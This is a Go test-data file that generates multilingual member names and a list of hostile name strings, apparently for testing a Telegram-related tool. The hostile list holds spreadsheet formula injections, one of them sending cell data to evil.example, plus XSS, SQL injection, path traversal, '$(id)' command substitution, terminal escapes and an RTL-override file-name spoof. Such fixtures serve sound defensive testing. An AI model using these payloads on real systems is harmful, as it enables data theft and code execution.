package people

import "strings"

var scripts = []script{
	{
		share: 34,
		first: words(`Anna Ben Clara David Elena Felix Greta Hugo Ines Jakob Karin Liam Maja Noah Olga Pablo Quinn Rosa
			Simon Tessa Ulrich Vera Walter Xenia Yusuf Zoë André Björn Chloë Désirée Eğemen Fátima Győző Håkon
			Iñaki João Krzysztof Łukasz Müge Nuría Öykü Paweł Renée Søren Þóra Ümit Ştefan Ngọc Đặng Ağca`),
		last: words(`Adler Becker Costa Dubois Ekström Ferrari Gómez Hansen Ivanov Jansen Kowalski Lindqvist Moreau
			Novák O'Neill Petrov Quist Rossi Schmidt Taylor Ueda Vogel Weiß Yilmaz Zieliński Nguyễn Brontë Çelik
			d'Arc Müller-Lüdenscheidt Øverland St.John Živković`),
	},
	{
		share: 26,
		first: words(`Александр Борис Валерия Галина Дмитрий Екатерина Жанна Зинаида Иван Кирилл Людмила Михаил Наталья
			Олег Пётр Руслан Светлана Тимур Ульяна Фёдор Ярослав Їржі Олексій Ганна Ђорђе Љубица`),
		last: words(`Абрамов Белова Волков Громова Дьяков Ершова Жуков Зайцева Игнатьев Королёва Лебедев Морозова
			Новиков Орлова Павленко Романюк Соколова Тарасов Уваров Фролова Щербаков Юрченко`),
	},
	{
		share: 8,
		first: words(`أحمد بلال جميلة حسن خالد دينا رامي زينب سارة طارق عمر فاطمة كريم ليلى محمد نور هدى يوسف`),
		last:  words(`الحسن البغدادي الخطيب الدمشقي السيد الشامي العلي القاسم المصري النجار حداد منصور`),
	},
	{
		share: 10,
		first: words(`آرش بهاره پرویز چنگیز داریوش رضا ژاله سهراب شیرین فرهاد کامران گلناز مهدی نرگس هومن یاسمین`),
		last:  words(`احمدی بهرامی پارسا جعفری حسینی رضایی شیرازی صادقی کریمی گودرزی محمدی نوری یزدانی`),
	},
	{
		share: 6,
		first: words(`अजय आरती ईशान कविता गणेश दीपक नेहा प्रिया मोहन राधा विक्रम शांति सूरज`),
		last:  words(`अग्रवाल कुमार गुप्ता जोशी पटेल मिश्रा यादव शर्मा सिंह वर्मा`),
	},
	{
		share: 6,
		first: words(`伟 芳 娜 秀英 敏 静 强 磊 洋 艳 勇 军 杰 娟 涛 超 明 霞`),
		last:  words(`王 李 张 刘 陈 杨 黄 赵 吴 周 徐 孙 欧阳 司马`),
	},
	{
		share: 6,
		first: words(`🌸 🔥🔥🔥 👨‍👩‍👧‍👦 ✨Mia✨ 🐻 🇩🇪 👩🏽‍🚀 ♛King♛ 🦊fox 𝓐𝓵𝓲𝓬𝓮 ⓜⓐⓧ 🅰🅱`),
		last:  words(`💎 🌍 ❤️ 🚀 ☕ | . ⚡️⚡️`),
	},
	{
		share: 4,
		first: words(`A B . K M Я Ж م ن 王 x _ 7`),
		last:  words(`A . Z Б ی 0`),
	},
}

// scriptTotal is the sum of the scripts' shares.
var scriptTotal = func() int {
	n := 0
	for _, s := range scripts {
		n += s.share
	}
	return n
}()

var handles = words(`amber basil cedar delta ember fjord grove haven indigo juniper karma lemon maple nova olive pixel
	quartz river sable tango umbra velvet willow xenon yarrow zephyr night_owl tea_cat blue_fox old_bear`)

// maxName is how many characters Telegram leaves of a name.
const maxName = 64

// hostileNames are taken in turn. Each is something a member really could be called.
var hostileNames = []Person{
	{FirstName: `=HYPERLINK("http://evil.example/?"&A1,"open me")`},
	{FirstName: "+1+1", LastName: "-2+3"},
	{FirstName: "@SUM(1+1)*cmd|' /C calc'!A0"},
	{FirstName: "\t=1+1", LastName: "\r=2+2"},
	{FirstName: "\x1b[31mred\x1b[0m", LastName: "\x1b]0;title\x07"},
	{FirstName: "\x1b[2J\x1b[H", LastName: "\u009b31m"},
	{FirstName: "Ann\u202egnp.exe", LastName: "\u2066iso\u2069"},
	{FirstName: "\u200bzero\u200dwidth\u2060", LastName: "\ufeff"},
	{FirstName: "<script>alert(1)</script>", LastName: "<b>bold</b>"},
	{FirstName: `"><img src=x onerror=alert(1)>`, LastName: "&lt;&amp;"},
	{FirstName: "two\nlines", LastName: "a\r\nb"},
	{FirstName: "a,b;c\td", LastName: `"quoted","cells"`},
	{FirstName: strings.Repeat("W", maxName), LastName: strings.Repeat("m", maxName)},
	{FirstName: strings.Repeat("漢", maxName)},
	{FirstName: "Z" + strings.Repeat("\u0324\u0301\u0489", 19) + "algo"},
	{FirstName: "\u2800\u2800\u2800"},
	{FirstName: "\u3164", LastName: "\u00a0"},
	{FirstName: "Deleted Account"},
	{FirstName: "_*[x](tg://user?id=1)`~", LastName: "||spoiler||"},
	{FirstName: "{{.Secret}}", LastName: "${HOME} %s %n $(id)"},
	{FirstName: "../../etc/passwd", LastName: `C:\con`},
	{FirstName: "'; DROP TABLE members; --", LastName: "NULL"},
	{FirstName: "nul\x00byte", LastName: "\x7fdel\x08\x08\x08"},
	{FirstName: "\u0627\u0644\u0644\u0651\u064e\u200f 12", LastName: "\u061cabc"},
}
